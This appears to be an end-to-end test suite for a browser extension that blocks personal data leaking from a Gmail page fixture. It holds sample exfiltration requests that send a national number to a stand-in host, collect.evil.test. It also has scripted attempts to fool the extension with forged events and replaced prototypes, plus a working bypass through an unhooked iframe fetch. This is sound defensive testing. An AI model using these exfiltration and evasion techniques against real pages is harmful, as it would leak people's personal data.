/**
 * The network backstop end to end, in Debian's Chromium, on the Gmail page fixture served as mail.google.com with a
 * third-party collector mapped as collect.evil.test. What reached the collector is checked on the server; what was
 * logged, in the extension's log.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { startFixtureServer, type FixtureServer } from '../../scripts/lib/fixture-server.ts';
import { launchChromium, type ChromiumSession } from './support/chromium.ts';
import { findLog, readLog, type LoggedShare } from './support/log.ts';
import { GMAIL, addRecipient, hasDialog, newest, typeBody } from './support/mail.ts';

const NATIONAL_NUMBER = '85.07.30-033.28';
const NOTARY = 'etude.dubois@notaire.be';
const COLLECTOR = 'https://collect.evil.test';


/** fetch, XHR and sendBeacon from the page's own script, each to its own path on the collector. */
function sendAll(page: Page, body: string): Promise<{ fetch: string; xhr: string; beacon: boolean }> {
  return page.evaluate(
    async ({ origin, body }) => {
      const fetched = await fetch(`${origin}/fetch`, { method: 'POST', body }).then(
        (r) => `status:${r.status}`,
        (e: Error) => e.name,
      );
      const xhr = await new Promise<string>((resolve) => {
        const x = new XMLHttpRequest();
        x.open('POST', `${origin}/xhr`);
        x.onload = () => resolve(`status:${x.status}`);
        x.onerror = () => resolve('error');
        x.send(body);
      });
      return { fetch: fetched, xhr, beacon: navigator.sendBeacon(`${origin}/beacon`, body) };
    },
    { origin: COLLECTOR, body },
  );
}

describe('network backstop on Gmail', () => {
  let server: FixtureServer;
  let s: ChromiumSession;
  let page: Page;
  const collected = () => server.sent.filter((m) => m.host === 'collect.evil.test');
  const requestRows = async () => ((await readLog(s.worker)) as LoggedShare[]).filter((r) => r.action === 'request');

  beforeAll(async () => {
    server = await startFixtureServer();
    s = await launchChromium([`--host-resolver-rules=${server.hostResolverRules}`, '--ignore-certificate-errors']);
    page = await s.context.newPage();
    await page.goto(GMAIL.url);
    await newest(GMAIL, page).waitFor({ state: 'visible' });
  });
  afterAll(async () => {
    await s?.close();
    await server?.close();
  });

  it('stops fetch, XHR and sendBeacon carrying a national number to an unknown host, and logs each', async () => {
    const results = await sendAll(page, JSON.stringify({ client: 'Dubois', nn: NATIONAL_NUMBER }));
    expect(results).toEqual({ fetch: 'TypeError', xhr: 'error', beacon: false });
    await page.waitForTimeout(1000);
    expect(collected()).toEqual([]);
    await expect.poll(async () => (await requestRows()).length, { timeout: 10_000 }).toBe(3);
    for (const row of await requestRows()) {
      expect(row).toMatchObject({ site: 'gmail', choice: 'blocked', decision: 'block', status: 'not-sent' });
      expect(row.destinations).toEqual([{ to: 'collect.evil.test', kind: 'host', decision: 'block' }]);
      expect(row.findings.map((f) => f.type)).toContain('be-national-number');
      // masked and hashed only: no form of the raw number (a 64-digit hex hash may well hold "033" by chance)
      for (const raw of [NATIONAL_NUMBER, '85073003328', '033.28', '850730']) expect(JSON.stringify(row)).not.toContain(raw);
    }
  });

  it('lets the same requests through untouched when they carry no personal data', async () => {
    const rowsBefore = (await requestRows()).length;
    const results = await sendAll(page, JSON.stringify({ event: 'open', ms: 1234 }));
    expect(results).toEqual({ fetch: 'status:200', xhr: 'status:200', beacon: true });
    await expect.poll(() => collected().length, { timeout: 10_000 }).toBe(3);
    expect(collected().map((m) => m.path).sort()).toEqual(['/beacon', '/fetch', '/xhr']);
    expect(collected()[0]?.body).toEqual({ event: 'open', ms: 1234 });
    await page.waitForTimeout(500);
    expect((await requestRows()).length).toBe(rowsBefore);
  });

  it('cannot be talked into letting a request through by forged messages or replaced prototypes', async () => {
    const before = collected().length;
    const outcome = await page.evaluate(
      async ({ origin, nn }) => {
        const attempt = () => fetch(`${origin}/forged`, { method: 'POST', body: `nn=${nn}` }).then(() => 'sent', (e: Error) => e.name);
        const first = attempt();
        // Forged verdicts for every plausible id, on every target a page can reach, and through postMessage.
        for (let i = 0; i < 50; i++) {
          for (const verdict of ['allow', 'pending']) {
            const detail = JSON.stringify({ id: `r${i}`, verdict });
            for (const t of [window, document, document.documentElement]) t.dispatchEvent(new CustomEvent('vigie-verdict', { detail, bubbles: true }));
            window.postMessage({ id: `r${i}`, verdict }, '*');
          }
        }
        // Try to obtain the channel: ask for a new handshake, and pose as the hooks with an element of our own.
        const offered: unknown[] = [];
        window.addEventListener('vigie-hooks-hello', (e) => offered.push((e as MouseEvent).relatedTarget), true);
        window.dispatchEvent(new Event('vigie-relay-hello'));
        const mine = document.createElement('span');
        const answers: unknown[] = [];
        mine.addEventListener('vigie-verdict', (e) => answers.push((e as CustomEvent).detail));
        window.dispatchEvent(new MouseEvent('vigie-hooks-hello', { relatedTarget: mine }));
        mine.dispatchEvent(new CustomEvent('vigie-check', { detail: JSON.stringify({ id: 'x', via: 'fetch', method: 'POST', url: `${origin}/x`, body: '', sync: true }) }));
        // Replace what the hooks would call, to catch the channel or a pending callback.
        const caught: string[] = [];
        const dispatch = EventTarget.prototype.dispatchEvent;
        EventTarget.prototype.dispatchEvent = function (this: EventTarget, e: Event) {
          caught.push((this as Element).nodeName ?? String(this));
          return dispatch.call(this, e);
        };
        const then = Promise.prototype.then;
        Promise.prototype.then = function (this: Promise<unknown>, ...args: Parameters<typeof then>) {
          return then.apply(this, args as never);
        } as typeof then;
        const second = await attempt();
        EventTarget.prototype.dispatchEvent = dispatch;
        Promise.prototype.then = then;
        return { first: await first, second, offered: offered.filter((t) => t !== mine).length, answers: answers.length, caught: caught.filter((n) => /vigie/i.test(n)) };
      },
      { origin: COLLECTOR, nn: NATIONAL_NUMBER },
    );
    expect(outcome).toEqual({ first: 'TypeError', second: 'TypeError', offered: 0, answers: 0, caught: [] });
    await page.waitForTimeout(500);
    expect(collected().length).toBe(before);
  });

  it('logs as unguarded a request that goes around the hooks (a fresh frame’s fetch): the network layer saw it', async () => {
    const result = await page.evaluate(
      async ({ origin, nn }) => {
        const frame = document.createElement('iframe');
        document.body.append(frame);
        const bare = frame.contentWindow!.fetch; // not hooked: the backstop's known gap
        return bare(`${origin}/around`, { method: 'POST', body: `nn=${nn}` }).then((r) => r.status, (e: Error) => e.name);
      },
      { origin: COLLECTOR, nn: NATIONAL_NUMBER },
    );
    expect(result).toBe(200);
    expect(collected().some((m) => m.path === '/around')).toBe(true);
    await expect
      .poll(async () => (await requestRows()).find((r) => r.choice === 'unguarded')?.status, { timeout: 10_000 })
      .toBe('sent');
    const row = (await requestRows()).find((r) => r.choice === 'unguarded')!;
    expect(row).toMatchObject({ site: 'gmail', decision: 'block' });
    expect(row.destinations[0]?.to).toBe('collect.evil.test');
  });

  it('turns a guarded Gmail send from unconfirmed to sent once its POST completes', async () => {
    const compose = await s.context.newPage();
    await compose.goto(GMAIL.url);
    const c = newest(GMAIL, compose);
    await addRecipient(GMAIL, c, 'to', NOTARY);
    await typeBody(GMAIL, c, `Numéro national du vendeur : ${NATIONAL_NUMBER}`);
    const before = server.sent.filter((m) => m.path.startsWith('/sync/u/0/i/s')).length;
    await GMAIL.sendButton(c).click();
    await expect.poll(() => server.sent.filter((m) => m.path.startsWith('/sync/u/0/i/s')).length, { timeout: 10_000 }).toBe(before + 1);
    expect(hasDialog(compose)).toBe(false);
    await expect
      .poll(async () => (await readLog(s.worker)).find((r) => r.destinations.some((d) => d.to === NOTARY))?.status, { timeout: 10_000 })
      .toBe('sent');
    const row = await findLog(s.worker, (r) => r.destinations.some((d) => d.to === NOTARY));
    expect(row).toMatchObject({ site: 'gmail', choice: 'sent', decision: 'allow' });
    await compose.close();
  });
});
